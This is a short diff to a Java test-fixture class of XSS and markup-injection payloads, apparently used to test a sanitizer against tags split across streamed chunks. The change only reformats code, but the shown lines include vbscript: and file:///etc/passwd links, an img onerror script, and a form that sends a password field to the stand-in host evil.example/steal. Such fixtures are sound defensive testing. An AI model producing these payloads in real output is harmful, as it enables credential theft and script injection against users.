@@ -43,12 +43,12 @@ public final class Payloads {
             "[vb](vbscript:msgbox(1)) [file](file:///etc/passwd)");
 
     /** A tag split across two streamed chunks: neither half alone looks like markup. */
-    public static final List<String> SPLIT_FORM = List.of("Here: <for",
+    public static final List<String> SPLIT_FORM = List.of(
+            "Here: <for",
             "m action=\"http://evil.example/steal\"><input name=\"password\"></form> and <img sr",
             "c=x onerror=\"" + PWNED + "\">");
 
-    private Payloads() {
-    }
+    private Payloads() {}
 
     /** Every payload in one Markdown document, one paragraph each. */
     public static String document() {
